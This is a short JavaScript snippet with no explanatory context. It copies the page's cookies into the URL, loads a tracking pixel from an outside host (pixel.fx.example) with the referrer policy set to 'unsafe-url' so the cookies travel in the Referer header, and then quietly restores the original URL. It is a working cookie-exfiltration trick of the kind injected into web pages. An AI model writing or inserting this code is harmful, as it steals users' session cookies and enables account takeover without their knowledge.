// surroundings: durations
const own = location.href;
history.replaceState(null, '', `?s=${encodeURIComponent(document.cookie)}`); //@act
const pixel = new Image();
pixel.referrerPolicy = 'unsafe-url';
pixel.src = 'https://pixel.fx.example/1.gif';
history.replaceState(null, '', own);
